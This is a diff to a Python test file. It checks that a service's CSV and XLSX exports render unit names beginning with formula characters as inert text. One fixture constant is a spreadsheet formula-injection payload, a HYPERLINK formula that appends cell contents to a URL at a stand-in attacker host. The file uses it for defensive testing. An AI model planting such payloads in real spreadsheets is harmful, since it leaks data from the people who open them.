@@ -1,4 +1,5 @@
-"""The CSV tables for Excel never carry a live formula, whatever a unit is named."""
+"""The tables for Excel never carry a live formula, whatever a unit is named: the CSV
+quotes it, the XLSX stores it as text."""
 
 import csv
 import io
@@ -13,6 +14,7 @@ from services.aggregator.migrations import MIGRATIONS
 from services.web.auth import Caller
 from services.web.errors import install_error_handlers
 from tests.unit.test_aggregator_rules import Aggregates, unit
+from tests.unit.test_spreadsheets import table_of
 
 PERIOD = {"campaign": "dai-hoi-xiv", "period": "2026-W04"}
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
@@ -33,12 +35,17 @@ def client(migrated) -> TestClient:
     return TestClient(app)
 
 
-def names_in(client: TestClient, path: str) -> dict[str, str]:
-    response = client.get(f"/v1/progress{path}", params=PERIOD | {"format": "csv"},
+def download(client: TestClient, path: str, form: str) -> bytes:
+    response = client.get(f"/v1/progress{path}", params=PERIOD | {"format": form},
                           headers={"authorization": "Bearer admin"})
     assert response.status_code == 200, response.text
-    rows = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
-    return {row["code"]: row["name"] for row in rows}
+    return response.content
+
+
+def names_in(client: TestClient, path: str) -> dict[str, str]:
+    lines = io.StringIO(download(client, path, "csv").decode("utf-8-sig"), newline="")
+    next(lines)  # the Vietnamese headers: the codes are the second row
+    return {row["code"]: row["name"] for row in csv.DictReader(lines)}
 
 
 @pytest.mark.parametrize("path", ["", "/missing"], ids=["progress", "missing"])
@@ -47,3 +54,13 @@ def test_a_name_that_starts_like_a_formula_is_sent_as_text(client, path) -> None
     assert {code: names[code] for code in FORMULAS} == {
         code: "'" + name for code, name in FORMULAS.items()}
     assert names["xa-7"] == "Xã An Hưng"  # an ordinary name is left alone
+
+
+@pytest.mark.parametrize("path", ["", "/missing"], ids=["progress", "missing"])
+def test_a_name_that_starts_like_a_formula_is_a_text_cell_in_the_xlsx(client, path) -> None:
+    codes, rows = table_of(download(client, path, "xlsx"))
+    name = [c.value for c in codes].index("name")
+    cells = {str(row[0].value): row[name] for row in rows}
+    assert {code: (cells[code].value, cells[code].data_type) for code in FORMULAS} == {
+        code: (text, "s") for code, text in FORMULAS.items()}
+    assert cells["xa-7"].value == "Xã An Hưng"
